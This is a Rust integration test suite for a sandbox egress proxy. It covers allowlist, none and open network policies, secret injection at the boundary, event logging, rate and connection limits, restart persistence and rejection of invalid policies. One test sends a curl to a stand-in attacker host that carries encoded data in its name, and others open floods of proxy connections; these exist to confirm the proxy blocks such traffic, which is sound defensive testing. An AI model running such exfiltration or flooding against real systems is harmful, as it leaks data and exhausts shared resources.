//! The egress proxy end to end: real sandboxes whose programs (curl, Python) reach test HTTP
//! and HTTPS servers on the host's loopback only through `openrun serve`'s proxy, under each
//! network policy; secrets added at the boundary and never visible inside; events on the
//! timeline; bad policies refused. Root only.

mod common;
use common::server::*;
use common::*;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

/// The body every test upstream answers with.
const HELLO: &str = "hello from upstream";

/// A test server on 127.0.0.1 that records each request head and answers [`HELLO`].
struct Upstream {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Upstream {
    fn start(tls: Option<Arc<rustls::ServerConfig>>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind upstream");
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let (log, tls) = (log.clone(), tls.clone());
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
                    match tls {
                        None => answer(stream, &log),
                        Some(config) => {
                            let conn = rustls::ServerConnection::new(config).expect("tls conn");
                            answer(rustls::StreamOwned::new(conn, stream), &log);
                        }
                    }
                });
            }
        });
        Self { port, seen }
    }

    /// Request heads received so far, lower-cased.
    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }

    fn forget(&self) {
        self.seen.lock().unwrap().clear();
    }
}

fn answer<S: Read + Write>(mut stream: S, log: &Mutex<Vec<String>>) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return,
        }
    }
    log.lock()
        .unwrap()
        .push(String::from_utf8_lossy(&head).to_lowercase());
    let response = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{HELLO}",
        HELLO.len()
    );
    let _ = stream.write_all(response.as_bytes());
    let _ = stream.flush();
}

/// A test CA and a server certificate it signed for `names`: (CA PEM, server config).
fn test_tls(names: &[&str]) -> (String, Arc<rustls::ServerConfig>) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "egress test CA");
    let ca_key = KeyPair::generate().unwrap();
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca_params, ca_key);
    let names: Vec<String> = names.iter().map(|n| n.to_string()).collect();
    let leaf_key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(names)
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    #[allow(deprecated)]
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
        )
        .unwrap();
    (ca_cert.pem(), Arc::new(config))
}

/// Runs `sh -c script` in the sandbox: (exit code, stdout, stderr).
fn sh(api: &Api, id: &str, script: &str) -> (i64, String, String) {
    let lines = api.exec(id, script);
    let code = exit_line(&lines)["code"].as_i64().expect("exit code");
    (code, stream(&lines, "stdout"), stream(&lines, "stderr"))
}

/// `curl` inside the sandbox, printing the response head and body; returns (status, text).
fn curl(api: &Api, id: &str, args: &str) -> (u16, String) {
    let (code, out, err) = sh(api, id, &format!("curl -sS -m 20 -D - {args}"));
    let status = out
        .lines()
        .rfind(|l| l.starts_with("HTTP/"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, format!("{out}\n[curl exit {code}] {err}"))
}

/// The sandbox's events of `kind`.
fn events(api: &Api, id: &str, kind: &str) -> Vec<Value> {
    let res = api.get(&format!("/v1/sandboxes/{id}/events"));
    assert_eq!(res.status(), 200);
    let all: Vec<Value> = res.json().unwrap();
    all.into_iter().filter(|e| e["kind"] == kind).collect()
}

fn put_policy(api: &Api, id: &str, policy: Value) -> reqwest::blocking::Response {
    api.req(reqwest::Method::PUT, &format!("/v1/sandboxes/{id}/network"))
        .header("content-type", "application/json")
        .body(policy.to_string())
        .send()
        .expect("PUT network")
}

/// [`put_policy`] that must succeed (200); returns the response, whose body is the new view.
#[track_caller]
fn set_policy(api: &Api, id: &str, policy: Value) -> reqwest::blocking::Response {
    let res = put_policy(api, id, policy);
    assert_eq!(res.status(), 200);
    res
}

fn start(env: &Env, extra: &[&str]) -> (Server, Api) {
    let k = key(env, "egress");
    let mut args = vec!["--listen", "127.0.0.1:0"];
    args.extend_from_slice(extra);
    let server = Server::start_with(env, &args);
    let api = Api::new(&server, &k);
    (server, api)
}

#[test]
fn policy_none_refuses_every_request_with_a_reason_and_records_it() {
    let env = Env::new();
    let (_server, api) = start(&env, &[]);
    let id = api.create(json!({}))["id"].as_str().unwrap().to_string();
    let (_, proxy_env, _) = sh(&api, &id, "env | grep -i _proxy | sort");
    assert!(
        proxy_env.contains("HTTP_PROXY=http://127.0.0.1:3128")
            && proxy_env.contains("https_proxy=http://127.0.0.1:3128"),
        "{proxy_env}"
    );
    let started = Instant::now();
    let (status, text) = curl(&api, &id, "http://example.com/");
    assert_eq!(status, 403, "{text}");
    assert!(
        text.to_lowercase()
            .contains("x-openrun-denied: network policy is none"),
        "{text}"
    );
    // HTTPS: the CONNECT is refused, curl fails at once.
    let (code, _, err) = sh(&api, &id, "curl -sS -m 20 https://example.com/");
    assert_ne!(code, 0);
    assert!(err.contains("403"), "{err}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "a refusal hung"
    );
    // Python's urllib through the same proxy.
    let (_, out, _) = sh(
        &api,
        &id,
        "python3 -c \"import urllib.request,urllib.error\ntry:\n urllib.request.urlopen('http://example.org/', timeout=20)\nexcept urllib.error.HTTPError as e:\n print(e.code, e.headers['X-Openrun-Denied'])\"",
    );
    assert_eq!(out.trim(), "403 network policy is none");
    let denied = events(&api, &id, "network.deny");
    assert!(denied.len() >= 3, "{denied:?}");
    let first = &denied[0]["payload"];
    assert_eq!(first["host"], "example.com");
    assert_eq!(first["port"], 80);
    assert_eq!(first["method"], "GET");
    assert_eq!(first["reason"], "network policy is none");
    assert_eq!(denied[0]["actor"], "system");
    assert!(denied
        .iter()
        .any(|e| e["payload"]["method"] == "CONNECT" && e["payload"]["port"] == 443));
    let res = api.get(&format!("/v1/sandboxes/{id}/network"));
    assert_eq!(res.status(), 200);
    let view: Value = res.json().unwrap();
    assert_eq!(view, json!({"mode": "none", "allow": [], "secrets": []}));
}

#[test]
fn allowlist_decides_by_name_before_dns_and_by_cidr_and_follows_runtime_changes() {
    let env = Env::new();
    let plain = Upstream::start(None);
    let (test_ca, tls_config) = test_tls(&["tunnel.test"]);
    let tls = Upstream::start(Some(tls_config));
    let (server, api) = start(
        &env,
        &[
            "--egress-resolve",
            "upstream.test:127.0.0.1",
            "--egress-resolve",
            "tunnel.test:127.0.0.1",
        ],
    );
    let policy =
        json!({"mode": "allowlist", "allow": ["upstream.test", "tunnel.test", "nxdomain.invalid"]});
    let created = api.create(json!({ "network": policy }));
    let id = created["id"].as_str().unwrap().to_string();

    // Plain HTTP to an allowed name.
    let (status, text) = curl(
        &api,
        &id,
        &format!("http://upstream.test:{}/hello", plain.port),
    );
    assert_eq!(status, 200, "{text}");
    assert!(text.contains(HELLO), "{text}");
    let seen = plain.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(seen[0].starts_with("get /hello http/1.1"), "{seen:?}");
    assert!(seen[0].contains(&format!("host: upstream.test:{}", plain.port)));
    assert!(
        !seen[0].contains("proxy-"),
        "proxy headers leaked: {seen:?}"
    );
    let allowed = events(&api, &id, "network.allow");
    assert_eq!(allowed[0]["payload"]["host"], "upstream.test");
    assert_eq!(allowed[0]["payload"]["port"], plain.port);

    // Python goes the same way.
    let (_, out, err) = sh(
        &api,
        &id,
        &format!(
            "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://upstream.test:{}/py', timeout=20).read().decode())\"",
            plain.port
        ),
    );
    assert_eq!(out.trim(), HELLO, "{err}");

    // HTTPS through CONNECT: an end-to-end tunnel (the sandbox verifies the real certificate).
    let res = api.put(
        &format!("/v1/sandboxes/{id}/files?path=/tmp/test-ca.pem"),
        test_ca.clone().into_bytes(),
    );
    assert_eq!(res.status(), 204);
    let (status, text) = curl(
        &api,
        &id,
        &format!(
            "--cacert /tmp/test-ca.pem https://tunnel.test:{}/tls",
            tls.port
        ),
    );
    assert_eq!(status, 200, "{text}");
    assert!(text.contains(HELLO), "{text}");
    assert!(tls.seen()[0].starts_with("get /tls http/1.1"));
    assert!(events(&api, &id, "network.allow")
        .iter()
        .any(|e| e["payload"]["method"] == "CONNECT" && e["payload"]["host"] == "tunnel.test"));

    // A name outside the allowlist is refused on the name alone, at once: it never reaches a
    // resolver (a DNS exfiltration channel).
    let exfil = "c2VjcmV0LWRhdGE.exfil.attacker.example";
    let started = Instant::now();
    let (status, text) = curl(&api, &id, &format!("http://{exfil}/"));
    assert_eq!(status, 403, "{text}");
    assert!(
        text.contains(&format!(
            "host {} is not in the allowlist",
            exfil.to_lowercase()
        )),
        "{text}"
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    let (code, _, err) = sh(&api, &id, "curl -sS -m 20 https://other.test/");
    assert_ne!(code, 0);
    assert!(err.contains("403"), "{err}");
    // An allowed name is resolved on the host; one that does not resolve is a 502 naming it
    // (a failure upstream, not a refusal of the policy).
    let (status, text) = curl(&api, &id, "http://nxdomain.invalid/");
    assert_eq!(status, 502, "{text}");
    assert!(text.contains("cannot resolve nxdomain.invalid"), "{text}");

    // An address literal needs a CIDR, and loopback one inside 127.0.0.0/8.
    let direct = format!(
        "--noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{}/direct",
        plain.port
    );
    let (status, text) = curl(&api, &id, &direct);
    assert_eq!(status, 403, "{text}");
    assert!(
        text.contains("address 127.0.0.1 is not in the allowlist"),
        "{text}"
    );
    set_policy(
        &api,
        &id,
        json!({"mode": "allowlist", "allow": ["upstream.test", "0.0.0.0/0"]}),
    );
    let (status, text) = curl(&api, &id, &direct);
    assert_eq!(status, 403, "0.0.0.0/0 opened loopback: {text}");
    assert!(text.contains("is loopback"), "{text}");
    // The runtime change applies to the next connection.
    let res = set_policy(
        &api,
        &id,
        json!({"mode": "allowlist", "allow": ["127.0.0.1/32"]}),
    );
    let view: Value = res.json().unwrap();
    assert_eq!(view["allow"], json!(["127.0.0.1/32"]));
    let (status, text) = curl(&api, &id, &direct);
    assert_eq!(status, 200, "{text}");
    assert!(plain.seen().iter().any(|h| h.starts_with("get /direct")));
    // upstream.test is no longer allowed.
    let (status, text) = curl(&api, &id, &format!("http://upstream.test:{}/", plain.port));
    assert_eq!(status, 403, "{text}");
    // The openrun server itself stays out of reach, whatever the CIDRs.
    let server_port = server.url.rsplit(':').next().unwrap().to_string();
    let (status, text) = curl(
        &api,
        &id,
        &format!("--noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{server_port}/v1/health"),
    );
    assert_eq!(status, 403, "{text}");
    assert!(text.contains("the openrun server itself"), "{text}");
    let changes = events(&api, &id, "network.policy");
    assert_eq!(changes.len(), 2, "{changes:?}");
    assert_eq!(changes[1]["payload"]["allow"], json!(["127.0.0.1/32"]));
    let res = api.get(&format!("/v1/sandboxes/{id}/network"));
    assert_eq!(
        res.json::<Value>().unwrap()["allow"],
        json!(["127.0.0.1/32"])
    );
}

#[test]
fn secrets_are_added_at_the_boundary_and_never_exist_inside() {
    const VALUE: &str = "s3cr3t-VALUE-4f9a1c";
    let env = Env::new();
    let (test_ca, tls_config) = test_tls(&["secret.test", "plain.test"]);
    let ca_file = env.data_dir().join("upstream-ca.pem");
    std::fs::write(&ca_file, &test_ca).unwrap();
    let plain = Upstream::start(None);
    let tls = Upstream::start(Some(tls_config));
    let (_server, api) = start(
        &env,
        &[
            "--egress-resolve",
            "secret.test:127.0.0.1",
            "--egress-resolve",
            "plain.test:127.0.0.1",
            "--egress-ca-file",
            ca_file.to_str().unwrap(),
        ],
    );
    let policy = json!({
        "mode": "allowlist",
        "allow": ["secret.test", "plain.test"],
        "secrets": [{"name": "TOKEN", "value": VALUE, "hosts": ["secret.test"]}]
    });
    let created = api.create(json!({ "network": policy }));
    let id = created["id"].as_str().unwrap().to_string();
    assert!(!created.to_string().contains(VALUE));

    // Plain HTTP to a host bound to a secret: refused (the value would travel in clear text
    // to whatever answers), nothing reaches the upstream.
    let (status, text) = curl(
        &api,
        &id,
        &format!(
            "-H 'Authorization: Bearer forged' http://secret.test:{}/api",
            plain.port
        ),
    );
    assert_eq!(status, 403, "{text}");
    assert!(
        text.contains("secrets are only sent over HTTPS; use https://"),
        "{text}"
    );
    assert!(plain.seen().is_empty(), "{:?}", plain.seen());
    assert!(events(&api, &id, "network.deny")
        .iter()
        .any(|e| e["payload"]["host"] == "secret.test"
            && e["payload"]["reason"]
                .as_str()
                .is_some_and(|r| r.contains("only sent over HTTPS"))));
    // A host without a secret is still reached over plain HTTP, without one.
    let (status, _) = curl(&api, &id, &format!("http://plain.test:{}/", plain.port));
    assert_eq!(status, 200);
    assert!(
        !plain.seen()[0].contains("authorization"),
        "{:?}",
        plain.seen()
    );

    // HTTPS: intercepted with the proxy's CA, which the sandbox trusts through its bundle.
    let (_, ca_env, _) = sh(&api, &id, "echo $CURL_CA_BUNDLE $SSL_CERT_FILE");
    assert_eq!(
        ca_env.trim(),
        "/etc/openrun/ca-bundle.crt /etc/openrun/ca-bundle.crt"
    );
    let (status, text) = curl(
        &api,
        &id,
        &format!("https://secret.test:{}/tls-api", tls.port),
    );
    assert_eq!(status, 200, "{text}");
    assert!(text.contains(HELLO));
    let seen = tls.seen();
    assert!(seen[0].starts_with("get /tls-api http/1.1"), "{seen:?}");
    assert!(
        seen[0].contains(&format!("authorization: bearer {}", VALUE.to_lowercase())),
        "{seen:?}"
    );
    let (_, issuer, _) = sh(
        &api,
        &id,
        &format!("curl -sS -m 20 -o /dev/null -w '%{{certs}}' https://secret.test:{}/ | grep -i issuer | head -1", tls.port),
    );
    assert!(issuer.contains("openrun egress proxy CA"), "{issuer}");
    tls.forget();
    // TRACE and TRACK echo the request's headers back: never with a secret.
    for method in ["TRACE", "TRACK"] {
        let (status, text) = curl(
            &api,
            &id,
            &format!("-X {method} https://secret.test:{}/echo", tls.port),
        );
        assert_eq!(status, 403, "{method}: {text}");
        assert!(text.contains(method), "{text}");
    }
    assert!(tls.seen().is_empty(), "{:?}", tls.seen());
    // A host without a secret is never intercepted: the sandbox sees the real certificate.
    let res = api.put(
        &format!("/v1/sandboxes/{id}/files?path=/tmp/test-ca.pem"),
        test_ca.into_bytes(),
    );
    assert_eq!(res.status(), 204);
    let (status, text) = curl(
        &api,
        &id,
        &format!(
            "--cacert /tmp/test-ca.pem https://plain.test:{}/t",
            tls.port
        ),
    );
    assert_eq!(status, 200, "{text}");
    assert!(!tls.seen()[0].contains("authorization"));

    // The value is nowhere inside: not in any process's environment, not in a file. (The
    // pattern matches the value without spelling it, so the command line holds no copy.)
    let pattern = format!(
        "{}[{}]",
        &VALUE[..VALUE.len() - 1],
        &VALUE[VALUE.len() - 1..]
    );
    let (_, found, _) = sh(
        &api,
        &id,
        &format!(
            "env | grep -c '{pattern}'; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '{pattern}'; \
             grep -rls '{pattern}' /etc /tmp /root /home /var /run /opt 2>/dev/null | wc -l"
        ),
    );
    assert_eq!(
        found.split_whitespace().collect::<Vec<_>>(),
        ["0", "0", "0"]
    );
    // Nor in what the API returns.
    for path in [
        format!("/v1/sandboxes/{id}"),
        format!("/v1/sandboxes/{id}/network"),
        format!("/v1/sandboxes/{id}/events"),
        format!("/v1/sandboxes/{id}/environment"),
    ] {
        let text = api.get(&path).text().unwrap();
        assert!(!text.contains(VALUE), "{path} shows the value: {text}");
    }
    let view: Value = api
        .get(&format!("/v1/sandboxes/{id}/network"))
        .json()
        .unwrap();
    assert_eq!(
        view["secrets"],
        json!([{"name": "TOKEN", "hosts": ["secret.test"], "header": "authorization", "format": "Bearer {value}"}])
    );
    let allowed = events(&api, &id, "network.allow");
    assert!(allowed
        .iter()
        .any(|e| e["payload"]["host"] == "secret.test"
            && e["payload"]["secrets"] == json!(["TOKEN"])));

    // Secrets given later by PUT: the CA files are written then, and the header follows.
    set_policy(
        &api,
        &id,
        json!({"mode": "allowlist", "allow": ["secret.test", "plain.test"],
               "secrets": [{"name": "KEY", "value": "other-value-77", "hosts": ["plain.test"],
                            "header": "X-Api-Key", "format": "{value}"}]}),
    );
    plain.forget();
    tls.forget();
    let (status, text) = curl(&api, &id, &format!("https://plain.test:{}/", tls.port));
    assert_eq!(status, 200, "{text}");
    assert_eq!(
        curl(&api, &id, &format!("http://plain.test:{}/", plain.port)).0,
        403
    );
    // secret.test has no secret any more: plain HTTP again, without one.
    assert_eq!(
        curl(&api, &id, &format!("http://secret.test:{}/", plain.port)).0,
        200
    );
    let seen = tls.seen();
    assert!(
        seen.iter().any(|h| h.contains("x-api-key: other-value-77")),
        "{seen:?}"
    );
    let seen_plain = plain.seen();
    assert_eq!(seen_plain.len(), 1, "{seen_plain:?}");
    assert!(
        !seen_plain[0].contains("authorization") && !seen_plain[0].contains("x-api-key"),
        "{seen_plain:?}"
    );
}

#[test]
fn a_flood_of_requests_is_counted_not_recorded_one_by_one() {
    let env = Env::new();
    let (_server, api) = start(&env, &[]);
    let id = api.create(json!({}))["id"].as_str().unwrap().to_string();
    // 60 requests from one curl (its URL range), each on a new connection, as fast as it goes.
    let (_, out, err) = sh(
        &api,
        &id,
        "curl -s -o /dev/null -w '%{http_code}\\n' 'http://flood[1-60].test/' | sort | uniq -c",
    );
    assert_eq!(
        out.split_whitespace().collect::<Vec<_>>(),
        ["60", "403"],
        "{err}"
    );
    // The count of the last window is written once it is over.
    std::thread::sleep(Duration::from_millis(1500));
    let denied = events(&api, &id, "network.deny").len() as u64;
    let suppressed: u64 = events(&api, &id, "network.suppressed")
        .iter()
        .map(|e| e["payload"]["count"].as_u64().expect("count"))
        .sum();
    assert_eq!(
        denied + suppressed,
        60,
        "every request is recorded or counted"
    );
    assert!(suppressed > 0, "{denied} events for 60 requests: no limit");
}

#[test]
fn one_sandbox_cannot_hold_more_than_its_share_of_proxy_connections() {
    let env = Env::new();
    let (_server, api) = start(&env, &[]);
    let id = api.create(json!({}))["id"].as_str().unwrap().to_string();
    let script = r#"
import socket, time
def ask():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\n\r\n")
    line = s.recv(4096).decode().split("\r\n")[0]
    s.close()
    return line
idle = [socket.create_connection(("127.0.0.1", 3128), timeout=20) for _ in range(256)]
time.sleep(2)
print(ask())
for s in idle:
    s.close()
time.sleep(2)
print(ask())
"#;
    let (code, out, err) = sh(&api, &id, &format!("python3 -c '{script}'"));
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        ["HTTP/1.1 429 Too Many Requests", "HTTP/1.1 403 Forbidden"],
        "{err}"
    );
    assert!(events(&api, &id, "network.deny")
        .iter()
        .any(|e| e["payload"]["reason"]
            .as_str()
            .is_some_and(|r| r.starts_with("too many connections"))));
}

#[test]
fn connect_tunnels_count_against_a_sandboxs_connections_while_they_last() {
    let env = Env::new();
    // An upstream that keeps every connection open without a word, until its client closes.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().unwrap().port();
    let held = Arc::new(Mutex::new(0usize));
    let count = held.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            *count.lock().unwrap() += 1;
            std::thread::spawn(move || {
                let mut sink = Vec::new();
                let _ = stream.read_to_end(&mut sink);
            });
        }
    });
    let (_server, api) = start(&env, &["--egress-resolve", "hold.test:127.0.0.1"]);
    let id = api.create(json!({"network": {"mode": "allowlist", "allow": ["hold.test"]}}))["id"]
        .as_str()
        .unwrap()
        .to_string();
    let script = format!(
        r#"
import socket, time
def ask():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\n\r\n")
    line = s.recv(4096).decode().split("\r\n")[0]
    s.close()
    return line
tunnels = []
for _ in range(256):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT hold.test:{port} HTTP/1.1\r\nHost: hold.test:{port}\r\n\r\n")
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    tunnels.append(s)
start = time.time()
print(ask())
print("refused within 3s" if time.time() - start < 3 else "refused late")
for s in tunnels:
    s.close()
time.sleep(2)
print(ask())
"#
    );
    let (code, out, err) = sh(&api, &id, &format!("python3 -c '{script}'"));
    assert_eq!(code, 0, "{out}\n{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            "HTTP/1.1 429 Too Many Requests",
            "refused within 3s",
            "HTTP/1.1 403 Forbidden"
        ],
        "{err}"
    );
    assert!(*held.lock().unwrap() >= 256);
}

/// Host pids of the pasta processes in sandbox `id`'s cgroup.
fn pastas_in_cgroup_of(id: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        let cgroup = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
        // `pasta` runs `passt.avx2` (or `pasta.avx2`) where the CPU has AVX2.
        let is_pasta = comm.starts_with("pasta") || comm.starts_with("passt");
        if is_pasta && cgroup.contains(id) {
            found.push(pid);
        }
    }
    found
}

/// Network interfaces of the sandbox (from its namespace's `/proc/net/dev`).
fn interfaces(api: &Api, id: &str) -> Vec<String> {
    let (_, out, _) = sh(api, id, "tail -n +3 /proc/net/dev | cut -d: -f1");
    let mut names: Vec<String> = out.split_whitespace().map(str::to_string).collect();
    names.sort();
    names
}

#[test]
fn open_mode_connects_the_namespace_and_still_guards_the_proxy() {
    let env = Env::new();
    let plain = Upstream::start(None);
    let (_server, api) = start(
        &env,
        &[
            "--allow-open-network",
            "--egress-resolve",
            "upstream.test:127.0.0.1",
        ],
    );
    let created = api.create(json!({"network": {"mode": "open"}}));
    let id = created["id"].as_str().unwrap().to_string();
    let open_ifaces = interfaces(&api, &id);
    assert!(
        open_ifaces.len() >= 2,
        "no interface beside lo: {open_ifaces:?}"
    );
    // pasta runs in the sandbox's cgroup (charged to it, frozen with it).
    assert_eq!(
        pastas_in_cgroup_of(&id).len(),
        1,
        "pasta is not in the cgroup"
    );
    let res = api.get(&format!("/v1/sandboxes/{id}/environment"));
    assert_eq!(res.status(), 200);
    assert_eq!(res.json::<Value>().unwrap()["network"]["policy"], "open");
    // Through the proxy: any public name, but not the host's loopback by address.
    let (status, text) = curl(&api, &id, &format!("http://upstream.test:{}/o", plain.port));
    assert_eq!(status, 200, "{text}");
    let (status, text) = curl(
        &api,
        &id,
        &format!(
            "--noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{}/",
            plain.port
        ),
    );
    assert_eq!(status, 403, "{text}");
    assert!(text.contains("is loopback"), "{text}");
    // Back to an allowlist: the namespace has loopback only again.
    set_policy(
        &api,
        &id,
        json!({"mode": "allowlist", "allow": ["upstream.test"]}),
    );
    assert_eq!(interfaces(&api, &id), ["lo"]);
    let res = api.get(&format!("/v1/sandboxes/{id}/environment"));
    assert_eq!(
        res.json::<Value>().unwrap()["network"]["policy"],
        "allowlist"
    );
    assert!(pastas_in_cgroup_of(&id).is_empty());
    set_policy(&api, &id, json!({"mode": "open"}));
    assert_eq!(interfaces(&api, &id), open_ifaces);
    let pasta = pastas_in_cgroup_of(&id);
    assert_eq!(pasta.len(), 1);
    // Deleting the sandbox ends its pasta (killed and reaped: not even a zombie is left).
    assert_eq!(api.delete(&format!("/v1/sandboxes/{id}")).status(), 204);
    assert!(
        !std::path::Path::new(&format!("/proc/{}", pasta[0])).exists(),
        "pasta {} outlived its sandbox",
        pasta[0]
    );
}

#[test]
fn policies_secrets_and_the_ca_survive_a_server_restart() {
    const VALUE: &str = "restart-secret-93b1";
    let env = Env::new();
    let (test_ca, tls_config) = test_tls(&["secret.test"]);
    let ca_file = env.data_dir().join("upstream-ca.pem");
    std::fs::write(&ca_file, &test_ca).unwrap();
    let tls = Upstream::start(Some(tls_config));
    let args = [
        "--listen",
        "127.0.0.1:0",
        "--egress-resolve",
        "secret.test:127.0.0.1",
        "--egress-ca-file",
        ca_file.to_str().unwrap(),
    ];
    let k = key(&env, "egress");
    let server = Server::start_with(&env, &args);
    let api = Api::new(&server, &k);
    let policy = json!({"mode": "allowlist", "allow": ["secret.test"],
        "secrets": [{"name": "T", "value": VALUE, "hosts": ["secret.test"]}]});
    let id = api.create(json!({ "network": policy }))["id"]
        .as_str()
        .unwrap()
        .to_string();
    let url = format!("https://secret.test:{}/before", tls.port);
    assert_eq!(curl(&api, &id, &url).0, 200);
    server.stop();
    let server = Server::start_with(&env, &args);
    let api = Api::new(&server, &k);
    // The relay comes back with the server: wait for it (a refused connection until then).
    let deadline = Instant::now() + Duration::from_secs(10);
    let url = format!("https://secret.test:{}/after", tls.port);
    let (status, text) = loop {
        let (status, text) = curl(&api, &id, &url);
        if status != 0 || Instant::now() > deadline {
            break (status, text);
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    // Same CA (the sandbox's bundle still trusts it), same policy, same secret.
    assert_eq!(status, 200, "{text}");
    let seen = tls.seen();
    assert!(seen.last().unwrap().starts_with("get /after"), "{seen:?}");
    assert!(seen.last().unwrap().contains(VALUE), "{seen:?}");
}

#[test]
fn bad_policies_are_refused_naming_the_problem() {
    let env = Env::new();
    let (_server, api) = start(&env, &[]);
    let cases = [
        (json!({"mode": "sometimes"}), "sometimes"),
        (
            json!({"mode": "allowlist", "allow": ["exa mple.com"]}),
            "exa mple.com",
        ),
        (
            json!({"mode": "allowlist", "allow": ["10.0.0.0/33"]}),
            "10.0.0.0/33",
        ),
        (
            json!({"mode": "allowlist", "allow": ["10.0.0.1/8"]}),
            "host bits",
        ),
        (json!({"mode": "allowlist", "allow": ["*"]}), "\"*\""),
        (
            json!({"mode": "allowlist", "allow": ["a.test"],
                   "secrets": [{"name": "T", "value": "v", "hosts": []}]}),
            "bound to no host",
        ),
        (
            json!({"mode": "allowlist", "allow": ["a.test"],
                   "secrets": [{"name": "T", "value": "v", "hosts": ["b.test"]}]}),
            "b.test",
        ),
        (
            json!({"mode": "allowlist", "allow": (0..300).map(|i| format!("h{i}.test")).collect::<Vec<_>>()}),
            "too many allow rules",
        ),
        (json!({"mode": "open", "allow": ["a.test"]}), "open"),
        (
            json!({"mode": "allowlist", "allow": "a.test"}),
            "invalid network policy",
        ),
    ];
    for (network, needle) in &cases {
        let res = api.post("/v1/sandboxes", &json!({ "network": network }).to_string());
        let message = error(res, 400, "invalid_network_policy");
        assert!(message.contains(needle), "{network}: {message}");
    }
    assert!(api.ids().is_empty(), "a refused create left a sandbox");
    let id = api.create(json!({}))["id"].as_str().unwrap().to_string();
    for (network, needle) in &cases {
        let message = error(
            put_policy(&api, &id, network.clone()),
            400,
            "invalid_network_policy",
        );
        assert!(message.contains(needle), "{network}: {message}");
    }
    assert!(events(&api, &id, "network.policy").is_empty());
    // Mode `open` reaches whatever the host reaches (metadata services, private networks):
    // refused unless the operator started the server with --allow-open-network.
    let open = json!({"mode": "open"});
    let message = error(
        api.post("/v1/sandboxes", &json!({ "network": open }).to_string()),
        403,
        "open_network_disabled",
    );
    assert!(message.contains("--allow-open-network"), "{message}");
    let message = error(
        put_policy(&api, &id, open.clone()),
        403,
        "open_network_disabled",
    );
    assert!(message.contains("--allow-open-network"), "{message}");
    error(
        api.post(
            &format!("/v1/sandboxes/{id}/fork"),
            &json!({"count": 1, "network": open}).to_string(),
        ),
        403,
        "open_network_disabled",
    );
    assert_eq!(api.ids(), vec![id.clone()], "a refused open left a sandbox");
    assert_eq!(
        api.get(&format!("/v1/sandboxes/{id}/network"))
            .json::<Value>()
            .unwrap()["mode"],
        "none"
    );
    // A fork checks its network before the snapshot: nothing is made.
    let res = api.post(
        &format!("/v1/sandboxes/{id}/fork"),
        &json!({"count": 1, "network": {"mode": "allowlist", "allow": ["-bad-"]}}).to_string(),
    );
    let message = error(res, 400, "invalid_network_policy");
    assert!(message.contains("-bad-"), "{message}");
    assert!(!api
        .event_kinds(&id)
        .contains(&"sandbox.snapshot".to_string()));
    error(
        put_policy(&api, "aaaaaaaaaaaa", json!({"mode": "none"})),
        404,
        "not_found",
    );
    // Another tenant cannot read or change it.
    let other = Api::new(&_server, &key(&env, "other"));
    error(
        other.get(&format!("/v1/sandboxes/{id}/network")),
        404,
        "not_found",
    );
    error(
        put_policy(&other, &id, json!({"mode": "none"})),
        404,
        "not_found",
    );
}
